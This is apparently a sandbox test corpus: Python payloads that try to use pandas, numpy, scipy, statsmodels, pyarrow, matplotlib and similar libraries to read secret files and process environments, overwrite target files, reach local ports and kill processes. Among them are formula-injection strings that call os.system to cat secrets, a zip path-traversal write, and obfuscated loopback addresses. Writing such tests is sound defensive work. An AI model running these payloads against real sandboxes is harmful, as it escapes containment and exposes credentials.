"""The analysis libraries' own ways to files and to the network."""

from tests.escapes.corpus import LOOT, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("library loaders", "pandas text readers", (TRY, r"""
import pandas
for path in ("{{SECRET}}", "file://{{SECRET}}", "/proc/{{PID}}/environ", "/proc/self/environ"):
    for read in (pandas.read_csv, pandas.read_table, pandas.read_fwf):
        attempt(read.__name__, lambda: read(path, header=None).to_string())
    attempt("c", lambda: pandas.read_csv(path, header=None, memory_map=True).to_string())
    attempt("pyarrow", lambda: pandas.read_csv(path, header=None, engine="pyarrow").to_string())
    attempt("python", lambda: pandas.read_csv(path, header=None, engine="python", sep="$^").to_string())
    attempt("json", lambda: pandas.read_json(path, lines=True))
""")),
    Payload("library loaders", "pandas binary readers", (TRY, r"""
import pandas
for read in (pandas.read_excel, pandas.read_parquet, pandas.read_feather, pandas.read_orc, pandas.read_stata, pandas.read_sas,
             pandas.read_spss, pandas.read_html, pandas.read_xml, pandas.read_hdf):
    for path in ("{{SECRET}}", "http://127.0.0.1:{{PORT}}/x", "/proc/{{PID}}/environ"):
        attempt(read.__name__, read, path)
attempt("clipboard", pandas.read_clipboard)
attempt("sql", lambda: pandas.read_sql("select 1", "sqlite:///{{TARGETDIR}}/owned.db"))
""")),
    Payload("library loaders", "pandas writers", (TRY, r"""
import pandas
frame = pandas.DataFrame({"a": ["owned"]})
for name in ("csv", "json", "html", "xml", "markdown", "latex", "string", "excel", "parquet", "feather", "stata", "hdf",
             "pickle", "orc"):
    writer = getattr(frame, "to_" + name, None)
    for path in ("{{TARGET}}", "{{TARGETDIR}}/owned." + name):
        attempt(name, lambda: writer(path, key="x") if name == "hdf" else writer(path))
attempt("zip", lambda: frame.to_csv("{{TARGETDIR}}/x.zip", compression={"method": "zip", "archive_name": "../../owned"}))
attempt("tar", lambda: frame.to_csv("{{TARGETDIR}}/x.tar", compression="tar"))
attempt("http", lambda: frame.to_csv("http://127.0.0.1:{{PORT}}/x"))
""")),
    Payload("library loaders", "pandas and fsspec addresses", (TRY, r"""
import pandas
options = {"client_kwargs": {"endpoint_url": "http://127.0.0.1:{{PORT}}"}}
for address in ("s3://x/y.csv", "gs://x/y.csv", "http://127.0.0.1:{{PORT}}/a.csv", "https://127.0.0.1:{{PORT}}/a.csv",
                "ftp://127.0.0.1:{{PORT}}/a.csv", "local://{{SECRET}}", "simplecache::file://{{SECRET}}",
                "zip://x::file://{{SECRET}}",
                "sftp://127.0.0.1/a", "hdfs://127.0.0.1:{{PORT}}/x", "data:text/csv,a", "file://localhost{{SECRET}}",
                "http://2130706433:{{PORT}}/", "http://[::ffff:127.0.0.1]:{{PORT}}/"):
    attempt(address, pandas.read_csv, address)
    attempt(address, pandas.read_csv, address, storage_options=options)
""")),
    Payload("library loaders", "numpy readers and writers", (TRY, r"""
import numpy
for path in ("{{SECRET}}", "/proc/{{PID}}/environ"):
    attempt("fromfile", lambda: numpy.fromfile(path, dtype="u1").tobytes())
    attempt("memmap", lambda: numpy.memmap(path, mode="r").tobytes())
    attempt("loadtxt", lambda: numpy.loadtxt(path, dtype=str, delimiter="\0"))
    attempt("genfromtxt", lambda: numpy.genfromtxt(path, dtype=None, encoding="latin1", delimiter="\1"))
    attempt("fromregex", lambda: numpy.fromregex(path, "(.*)", [("a", "S99")]))
    attempt("datasource", lambda: numpy.lib.npyio.DataSource("/").open(path).read())
attempt("url", lambda: numpy.lib.npyio.DataSource("{{TARGETDIR}}").open("http://127.0.0.1:{{PORT}}/x"))
attempt("tofile", lambda: numpy.zeros(9).tofile("{{TARGET}}"))
attempt("savetxt", lambda: numpy.savetxt("{{TARGETDIR}}/owned", [1]))
attempt("rw", lambda: numpy.memmap("{{TARGET}}", mode="r+").__setitem__(0, 65))
attempt("savez", lambda: numpy.savez("{{TARGETDIR}}/owned.npz", [1]))
""")),
    Payload("library loaders", "scipy.io readers and writers", (TRY, r"""
import numpy, scipy.io, scipy.io.wavfile, scipy.io.arff, scipy.datasets
attempt("mmread", scipy.io.mmread, "{{SECRET}}")
attempt("mminfo", scipy.io.mminfo, "{{SECRET}}")
attempt("arff", scipy.io.arff.loadarff, "{{SECRET}}")
attempt("fortran", lambda: scipy.io.FortranFile("{{SECRET}}").read_record("u1"))
attempt("netcdf", lambda: scipy.io.netcdf_file("{{SECRET}}", mmap=True))
attempt("wav", scipy.io.wavfile.read, "{{SECRET}}")
attempt("harwell", scipy.io.hb_read, "{{SECRET}}")
attempt("mmwrite", scipy.io.mmwrite, "{{TARGETDIR}}/owned", numpy.eye(2))
attempt("wavwrite", scipy.io.wavfile.write, "{{TARGET}}", 44100, numpy.zeros(9, "i2"))
attempt("fetch", lambda: scipy.datasets._fetchers.data_fetcher.path)
attempt("pooch", lambda: __import__("pooch").retrieve("http://127.0.0.1:{{PORT}}/", None, path="{{TARGETDIR}}"))
""")),
    Payload("library loaders", "sklearn data sets", (TRY, r"""
import sklearn.datasets as d
attempt("files", lambda: [text[:200] for text in d.load_files("{{TARGETDIR}}/..", load_content=True).data][:9])
attempt("svmlight", d.load_svmlight_file, "{{SECRET}}")
attempt("dump", lambda: d.dump_svmlight_file([[1]], [1], "{{TARGET}}"))
attempt("home", d.get_data_home, "{{TARGETDIR}}/owned")
attempt("clear", d.clear_data_home, "{{TARGETDIR}}/gone")
base = __import__("sklearn.datasets._base", fromlist=["x"])
Remote = base.RemoteFileMetadata
attempt("fetch", lambda: base._fetch_remote(Remote("owned", "http://127.0.0.1:{{PORT}}/x", "0"), dirname="{{TARGETDIR}}"))
attempt("csv", lambda: base.load_csv_data("{{SECRET}}", data_module="json"))
attempt("gzip", lambda: base.load_gzip_compressed_csv_data("{{SECRET}}", data_module="json"))
""")),
    Payload("library loaders", "statsmodels data sets and formulas", (TRY, r"""
import statsmodels.api as sm, statsmodels.formula.api as smf, numpy as np, pandas
frame = pandas.DataFrame({"y": [1.0, 2, 3, 4], "x": [1.0, 3, 2, 4]})
for formula in ("y ~ I(__import__('os').system('cat {{SECRET}}; echo owned >> {{TARGET}}'))",
                "y ~ x + np.fromfile('{{SECRET}}')[0]", "y ~ open('{{SECRET}}').read()",
                "y ~ {__import__('os').kill({{PID}}, 9)}", "y ~ C(x, levels=print(open('{{SECRET}}').read()))"):
    attempt("ols", lambda: smf.ols(formula, frame).fit().params)
attempt("rdataset", lambda: sm.datasets.get_rdataset("cars", cache="{{TARGETDIR}}"))
utils = __import__("statsmodels.datasets.utils", fromlist=["x"])
attempt("webuse", lambda: utils.webuse("auto", "http://127.0.0.1:{{PORT}}/"))
attempt("cache", lambda: utils._cache_it(b"owned", "{{TARGETDIR}}/owned"))
attempt("clear", lambda: utils.clear_data_home("{{TARGETDIR}}/gone"))
attempt("load", sm.load, "{{SECRET}}")
""")),
    Payload("library loaders", "formulaic and patsy terms that call", (LOOT, r"""
import os, pandas
frame = pandas.DataFrame({"a": [1, 2]})
attempt("formulaic", lambda: __import__("formulaic").model_matrix("a ~ {loot(os)}", frame, context=globals()))
formula = attempt("formula", lambda: __import__("formulaic").Formula("{open('{{SECRET}}').read()}"))
attempt("formulaic", lambda: formula.get_model_matrix(frame, context={"open": open}))
attempt("patsy", lambda: __import__("patsy").dmatrix("loot(os)", frame))
attempt("stateful", lambda: __import__("formulaic").transforms.TRANSFORMS)
""")),
    Payload("library loaders", "pyarrow readers, writers and data sets", (TRY, r"""
import pyarrow, pyarrow.csv, pyarrow.json, pyarrow.parquet, pyarrow.dataset, pyarrow.feather
table = pyarrow.table({"a": ["owned"]})
attempt("csv", lambda: pyarrow.csv.read_csv("{{SECRET}}", read_options=pyarrow.csv.ReadOptions(autogenerate_column_names=True)))
attempt("json", lambda: pyarrow.json.read_json("{{SECRET}}"))
attempt("dataset", lambda: pyarrow.dataset.dataset("{{SECRET}}", format="csv").head(9))
attempt("files", lambda: pyarrow.dataset.dataset("{{TARGETDIR}}", format="csv").files)
attempt("write", lambda: pyarrow.csv.write_csv(table, "{{TARGET}}"))
attempt("write", lambda: pyarrow.dataset.write_dataset(table, "{{TARGETDIR}}/owned", format="parquet"))
attempt("partition", lambda: pyarrow.parquet.write_to_dataset(table, "{{TARGETDIR}}", partition_cols=["a"]))
attempt("flight", lambda: __import__("pyarrow.flight").flight.connect("grpc://127.0.0.1:{{PORT}}").list_flights())
attempt("cython", lambda: pyarrow.get_libraries())
""")),
    Payload("library loaders", "matplotlib files, fonts and configuration", (TRY, r"""
import os
attempt("config", lambda: os.environ.update(MPLCONFIGDIR="{{TARGETDIR}}/owned", MATPLOTLIBRC="{{SECRET}}"))
import matplotlib
matplotlib.use("agg")
import matplotlib.pyplot as plt, matplotlib.cbook, matplotlib.font_manager
attempt("style", lambda: plt.style.use("{{SECRET}}"))
attempt("save", lambda: plt.figure().savefig("{{TARGETDIR}}/owned.png"))
attempt("image", lambda: plt.imread("{{SECRET}}"))
attempt("sample", lambda: matplotlib.cbook.get_sample_data("{{SECRET}}", asfileobj=True).read())
attempt("rc", lambda: matplotlib.rc_params_from_file("{{SECRET}}"))
attempt("latex", lambda: plt.rc("text", usetex=True) or plt.figure().text(0, 0, r"\input{ {{SECRET}} }").figure.canvas.draw())
attempt("backend", lambda: matplotlib.use("module://os"))
attempt("animation", lambda: plt.rcParams.update({"animation.ffmpeg_path": "/bin/sh"}))
attempt("font", lambda: matplotlib.font_manager.json_dump({}, "{{TARGET}}"))
""")),
    Payload("library loaders", "openpyxl, sqlite, PIL and other file formats", (TRY, r"""
import os
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("xlsx", lambda: __import__("openpyxl").load_workbook("{{SECRET}}"))
attempt("save", lambda: __import__("openpyxl").Workbook().save("{{TARGETDIR}}/owned.xlsx"))
attempt("image", lambda: __import__("openpyxl").drawing.image.Image("{{SECRET}}"))
attempt("pil", lambda: __import__("PIL.Image").Image.open("{{SECRET}}"))
attempt("pygments", lambda: __import__("pygments.lexers").lexers.load_lexer_from_file("{{SECRET}}", "X"))
attempt("requests", lambda: __import__("requests").get("http://127.0.0.1:{{PORT}}", timeout=1))
attempt("httpx2", lambda: __import__("httpx2").get("http://127.0.0.1:{{PORT}}", timeout=1))
attempt("boto", lambda: __import__("boto3").client("s3", endpoint_url="http://127.0.0.1:{{PORT}}",
                                                   region_name="x").list_buckets())
attempt("rich", lambda: __import__("rich.console").console.Console(file=open("{{TARGET}}", "a")).print("owned"))
attempt("psutil", lambda: (__import__("psutil").Process({{PID}}).environ(), __import__("psutil").Process({{PID}}).kill()))
attempt("dotenv", lambda: __import__("dotenv").dotenv_values("{{SECRET}}"))
""")),
]
